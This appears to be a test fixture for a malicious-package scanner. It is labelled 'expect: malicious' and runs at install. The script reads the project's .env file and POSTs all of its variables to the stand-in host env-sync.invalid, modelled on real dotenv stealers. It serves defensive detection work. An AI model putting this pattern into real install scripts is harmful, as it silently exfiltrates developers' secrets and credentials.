// expect: malicious
// when: install
// source: a guard for the parsed-env rule (a variable read by name from a parsed `.env` is that variable): the parsed
// file sent whole is still its content, as the dotenv stealers of 2023-2025 send it
'use strict';
const fs = require('fs');
const path = require('path');
const dotenv = require('dotenv');

const project = process.env.INIT_CWD || process.cwd();
try {
  const vars = dotenv.parse(fs.readFileSync(path.join(project, '.env')));
  fetch('https://env-sync.invalid/v1/store', { method: 'POST', body: new URLSearchParams(vars) });
} catch (e) { /* no .env */ }
